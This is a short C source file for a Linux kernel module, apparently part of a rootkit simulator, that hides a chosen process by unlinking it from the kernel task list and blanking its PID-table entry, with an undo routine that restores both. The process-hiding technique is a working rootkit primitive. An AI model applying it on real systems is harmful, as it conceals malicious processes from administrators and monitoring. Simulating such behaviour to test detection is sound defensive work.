// SPDX-License-Identifier: GPL-2.0
/* Takes a process out of the list of tasks, out of the table of pids, or out of both. */
#include "simulator.h"
#include <linux/idr.h>
#include <linux/pid_namespace.h>
#include <linux/sched/signal.h>

static int pid;
module_param(pid, int, 0);
static int how;
module_param(how, int, 0);

static struct pid *number;
static struct task_struct *task;
static struct list_head *before;

static int plant(void)
{
	number = find_get_pid(pid);
	task = get_pid_task(number, PIDTYPE_PID);
	if (!task)
		return -ESRCH;
	if (how != 1) {
		before = task->tasks.prev;
		__list_del_entry(&task->tasks);
	}
	if (how != 0)
		idr_replace(&init_pid_ns.idr, NULL, pid);
	return 0;
}

static void undo(void)
{
	if (how != 0)
		idr_replace(&init_pid_ns.idr, number, pid);
	if (how != 1)
		list_add(&task->tasks, before);
	put_task_struct(task);
	put_pid(number);
}
